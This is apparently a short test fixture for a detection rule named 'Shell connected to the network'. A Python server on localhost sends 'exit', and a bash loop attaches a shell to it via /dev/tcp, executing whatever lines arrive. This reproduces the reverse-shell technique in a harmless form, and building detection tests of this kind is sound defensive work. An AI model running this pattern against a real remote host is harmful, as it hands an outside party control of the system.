# what: bash's own network device becomes its input
# rules: Shell connected to the network
python3 -c '
import socket
s = socket.create_server(("127.0.0.1", 4545))
c, _ = s.accept()
c.sendall(b"exit\n")
c.close()' &
for n in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do
  bash -c 'exec 5<>/dev/tcp/127.0.0.1/4545; while read -r line <&5; do $line; done; bash <&5 >&5 2>&5' 2>/dev/null && break
  sleep 0.2
done
wait
